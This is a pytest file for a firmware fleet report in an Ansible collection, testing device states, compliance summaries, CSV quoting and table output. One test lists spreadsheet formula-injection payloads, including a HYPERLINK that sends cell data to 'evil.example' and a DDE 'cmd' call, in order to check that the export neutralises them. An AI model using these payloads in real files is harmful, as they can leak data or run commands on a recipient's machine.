# -*- coding: utf-8 -*-
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""The fleet report behind the inventory_report playbook."""

import csv
import io

import pytest

from ansible_collections.fleetota.cloud.plugins.plugin_utils import _report as report


def dev(device_id, current, latest, online=True, upgrading=False, product='770', name=None):
    return {'id': device_id, 'name': name or device_id, 'product': product, 'hardware_version': 'A', 'online': online, 'current_version': current,
            'latest_version': latest, 'upgrade_available': latest is not None and current != latest, 'upgrading': upgrading}


DEVICES = [dev('c1', '1.6', '1.6'), dev('o1', '1.4', '1.6'), dev('off', '1.6', '1.6', online=False), dev('up', '1.4', '1.6', upgrading=True),
           dev('none', '9.9', None, product='999'), dev('comma', '1.4', '1.6', name='lobby, "north"')]


def test_states():
    states = dict((row['id'], row['state']) for row in report.rows(DEVICES))
    assert states == {'c1': 'current', 'o1': 'outdated', 'off': 'offline', 'up': 'upgrading', 'none': 'no_firmware', 'comma': 'outdated'}


def test_summary_counts_compliance_on_versions_not_on_reachability():
    summary = report.summary(DEVICES)
    assert summary['devices'] == 6
    assert summary['compliance_percent'] == round(100.0 * 2 / 6, 1)  # c1 and the offline one run the newest
    assert summary['by_product']['770/A']['current'] == 2 and summary['by_product']['770/A']['devices'] == 5
    assert summary['by_state']['outdated'] == 2


def test_csv_round_trips_names_with_commas_and_quotes():
    parsed = list(csv.DictReader(io.StringIO(report.to_csv(DEVICES))))
    assert len(parsed) == 6
    comma = [row for row in parsed if row['id'] == 'comma'][0]
    assert comma['name'] == 'lobby, "north"' and comma['online'] == 'yes' and comma['latest_version'] == '1.6'


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1']


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_text():
    devices = [dev('f%d' % n, '1.4', '1.6', name=name) for n, name in enumerate(FORMULAS)]
    devices.append(dev('=id', '-1', '1.6', product='-770', name='plain name'))
    text = report.to_csv(devices)
    parsed = dict((row['id'], row) for row in csv.DictReader(io.StringIO(text)))
    for n, name in enumerate(FORMULAS):
        assert parsed['f%d' % n]['name'] == "'" + name
    odd = parsed["'=id"]
    assert (odd['current_version'], odd['product'], odd['name']) == ("'-1", "'-770", 'plain name')
    assert parsed['f0']['current_version'] == '1.4' and parsed['f0']['online'] == 'yes' and parsed['f0']['last_upgrade_failed'] == ''
    # Every field quoted, the header too.
    assert text.splitlines()[0] == ','.join('"%s"' % column for column in report.COLUMNS)
    assert all(line.startswith('"') and line.endswith('"') for line in text.split('\n') if line)
    # The other forms keep the values as the cloud gave them.
    rows = dict((row['id'], row) for row in report.rows(devices))
    assert rows['f0']['name'] == FORMULAS[0] and rows['=id']['current_version'] == '-1'


def test_table_puts_attention_first_and_limits_rows():
    lines = report.to_table(DEVICES, limit=3)
    assert lines[0].startswith('6 device(s), 33.3% on the newest version')
    assert lines[1].split() == ['device', 'product', 'hardware', 'current', 'latest', 'state']
    assert all('current' != line.split()[-1] for line in lines[3:6])
    assert lines[-1].startswith('... and 3 more device(s)')


def test_unknown_form_is_named():
    with pytest.raises(ValueError, match="form 'pdf' is not known"):
        report.report(DEVICES, 'pdf')


def test_a_failed_last_upgrade_is_its_own_state_and_csv_column():
    failed = dict(dev('f1', '1.4', '1.6', online=False), last_upgrade_failed=True)
    assert [row['state'] for row in report.rows([failed])] == ['failed']
    parsed = list(csv.DictReader(io.StringIO(report.to_csv(DEVICES + [failed]))))
    assert dict((row['id'], row['last_upgrade_failed']) for row in parsed if row['id'] in ('f1', 'c1')) == {'f1': 'yes', 'c1': ''}


@pytest.mark.parametrize('devices, message', [
    ({'id': 'a'}, "expected the devices list of firmware_info, got dict"),
    ([None], r"devices\[0\] is not a firmware_info device .*None"),
])
def test_bad_devices_are_named(devices, message):
    with pytest.raises(ValueError, match=message):
        report.report(devices, 'csv')
